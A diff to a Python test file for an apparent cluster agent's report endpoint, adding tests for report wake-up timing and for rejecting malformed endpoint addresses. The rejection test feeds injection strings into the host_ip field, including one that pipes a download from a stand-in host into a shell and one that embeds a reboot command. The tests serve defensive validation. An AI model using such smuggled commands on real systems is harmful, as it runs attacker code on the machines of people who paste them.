@@ -16,10 +16,14 @@ from node_agent.wire import (
     MESSAGE_BYTES_MAX,
     POLL_TYPE,
     REPORT_TYPE,
+    Endpoint,
+    FailureReason,
     JoinReply,
+    Phase,
     PollReply,
     Report,
     TaskAck,
+    WorkloadReport,
 )
 from reconciler.errors import Transient
 from reconciler.ports import Changes
@@ -43,6 +47,16 @@ TOKEN_REFUSED = (
 )
 REPORT = "/v1/agent/report"
 POLL = "/v1/agent/poll"
+
+
+def serving(**endpoint: Any) -> WorkloadReport:
+    return WorkloadReport(
+        instance="acme/research/hello",
+        target_hash="sha256:1",
+        running_hash="sha256:1",
+        phase=Phase.READY,
+        endpoints=(Endpoint(**endpoint),),
+    )
 
 
 class TestJoin:
@@ -168,6 +182,28 @@ class TestReport:
         assert [plane.woken.get(timeout=10) for _ in range(2)] == ["report", "report"]
         assert plane.woken.empty()
 
+    def test_progress_waits_and_what_comes_of_it_does_not(self, plane: Plane) -> None:
+        agent = plane.enrol()
+        told = [
+            WorkloadReport(
+                instance="acme/research/hello", target_hash="sha256:1", running_hash=None,
+                phase=phase, reason=reason, since_ms=seq,
+            )
+            for seq, (phase, reason) in enumerate((
+                (Phase.PULLING, None), (Phase.STARTING, None), (Phase.STARTING, None),
+                (Phase.STARTING, FailureReason.EXITED), (Phase.READY, None),
+            ))
+        ]  # fmt: skip
+        for seq, one in enumerate(told, 1):
+            # That it was taken over is written down at once; nothing follows from it.
+            given = acks("t-1") if seq == 2 else ()
+            answer = plane.post(REPORT, agent.report(seq, workloads=(one,), acks=given))
+            assert answer.status_code == 200
+        # The first and what came of it wake at once, progress a moment later.
+        assert [plane.woken.get(timeout=0.5) for _ in range(3)] == ["report"] * 3
+        assert plane.woken.empty()
+        assert [plane.woken.get(timeout=10) for _ in range(2)] == ["report"] * 2
+
     def test_its_acknowledgements_settle_tasks(self, plane: Plane) -> None:
         agent = plane.enrol()
         plane.store.commit(Changes(intents=[an_intent(1), an_intent(2), an_intent(3, "node-2")]))
@@ -266,6 +302,31 @@ class TestReport:
             "invalid_message",
             "report_seq or last_seq is out of range",
         )
+
+    @pytest.mark.parametrize(
+        "where",
+        [
+            {"host_ip": "127.0.0.1:80 x; curl evil | sh #"},
+            {"host_ip": "evil.example"},
+            {"host_ip": "fe80::1%$(reboot)"},
+            {"host_port": 0},
+            {"container": 65_536},
+        ],
+        ids=str,
+    )
+    def test_an_endpoint_that_is_no_address_and_port(
+        self, plane: Plane, where: dict[str, Any]
+    ) -> None:
+        """Attempted: words of a node in the command that a person is shown to paste."""
+        agent = plane.enrol()
+        good = {"name": "http", "container": 80, "host_ip": "127.0.0.1", "host_port": 20_001}
+        message = "an endpoint is no address with a port"
+        answer = plane.post(REPORT, agent.report(1, workloads=(serving(**{**good, **where}),)))
+        assert refusal(answer) == (422, "invalid_message", message)
+        for number, there in enumerate(("127.0.0.1", "::1", "fe80::1%eth0"), 2):
+            serves = serving(**{**good, "host_ip": there})
+            answer = plane.post(REPORT, agent.report(number, workloads=(serves,)))
+            assert answer.status_code == 200
 
     def test_a_number_too_high_to_count_on_from(self, plane: Plane) -> None:
         """Attempted: one node stops every task of all, as no higher number can be stored."""
